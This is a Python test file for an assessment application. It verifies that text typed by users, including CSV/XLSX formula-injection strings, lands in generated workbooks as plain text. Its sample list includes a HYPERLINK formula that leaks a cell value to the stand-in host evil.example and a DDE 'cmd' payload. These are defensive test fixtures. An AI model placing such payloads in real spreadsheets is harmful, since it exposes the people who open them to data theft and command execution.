"""Formula injection (issue 22 §4): every string a person typed reaches every XLSX the app
writes as a text cell, never a formula. The app itself puts no formula in any of them, so the
rule read off the files is simple: no sheet of any generated workbook has an `<f>` element."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace

from openpyxl import load_workbook

from assessment import answering, frameworks_cache
from assessment.models import CapabilityAnswer, CriterionAnswer
from assessment.reports.tabular import to_xlsx
from secretariat.reviews.labels import xlsx as review_xlsx

from .test_reports import make_report
from .test_workbook import cells, confirm, download, edit, errors_of, team, upload  # noqa: F401

NASTY = [
    '=HYPERLINK("http://evil.example/steal?d="&B2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+2",
]
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formula_cells(data: bytes) -> list[str]:
    """The sheets of an XLSX that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and FORMULA.search(archive.read(name))
        ]


def test_the_check_sees_a_formula():
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "=1+2"
    out = io.BytesIO()
    book.save(out)
    assert formula_cells(out.getvalue()) == ["xl/worksheets/sheet1.xml"]


def test_formulas_typed_online_reach_the_workbook_as_text_and_it_uploads_again(team):  # noqa: F811
    a = team["assessment"]
    tree = frameworks_cache.mnr_tree(a.mnr_version)
    for cap, text in zip(tree.capabilities, NASTY, strict=False):
        answering.capability_answers_save(
            assessment=a,
            capability=cap,
            user=team["contributor"],
            response="2",
            evidence=text,
            indicator_values={},
            version=0,
        )
    criteria = frameworks_cache.criteria_of(a.legislation_version)
    answering.criterion_answers_save(
        assessment=a,
        user=None,
        answers={criteria[0]: answering.CriterionInput("met", NASTY[1], 0, True)},
    )
    client = team["clients"]["coordinator"]
    data = download(client, a)
    assert formula_cells(data) == []
    found = cells(data)
    for cap, text in zip(tree.capabilities, NASTY, strict=False):
        assert found[f"evidence:{cap.code}"] == text
    # The fresh workbook is not refused for formulas it never had.
    response = upload(client, a, edit(data, {"level:C01": "3"}))
    assert response.status_code == 200, errors_of(response)


def test_formula_text_saved_from_a_workbook_comes_back_as_text(team):  # noqa: F811
    a = team["assessment"]
    client = team["clients"]["coordinator"]
    data = download(client, a)
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_col=1, max_col=4):
            if row[0].value in ("evidence:C01", "cite:legislation"):
                row[3].value = NASTY[0]
                row[3].data_type = "s"  # typed into the text-formatted cell: text
    out = io.BytesIO()
    book.save(out)
    response = upload(client, a, out.getvalue())
    assert response.status_code == 200, errors_of(response)
    assert confirm(client, a).status_code == 302
    assert CapabilityAnswer.objects.get(assessment=a, capability__code="C01").evidence == NASTY[0]
    assert (
        CriterionAnswer.objects.get(assessment=a, criterion__code="legislation").citation
        == (NASTY[0])
    )
    again = download(client, a)
    assert formula_cells(again) == []
    assert upload(client, a, edit(again, {"level:C02": "1"})).status_code == 200


# Every character a spreadsheet starts a formula with, alone, first, after a space or a tab.
TYPED = NASTY + [p + "1+1" for p in "=+-@"] + [" =1+1", "\t=1+1", "=", "==", "=A1"]


def test_the_action_plan_xlsx_writes_any_typed_text_as_text():
    report = make_report()
    for text in TYPED:
        action = replace(
            report.actions[0],
            title=text,
            description=text,
            lead_agency=text,
            supporting_agencies=text,
        )
        assert formula_cells(to_xlsx(replace(report, actions=(action,)))) == [], text


def test_the_secretariat_xlsx_exports_write_any_text_as_text():
    assert formula_cells(review_xlsx({"S": (["A"] * len(TYPED), [TYPED, TYPED[::-1]])})) == []
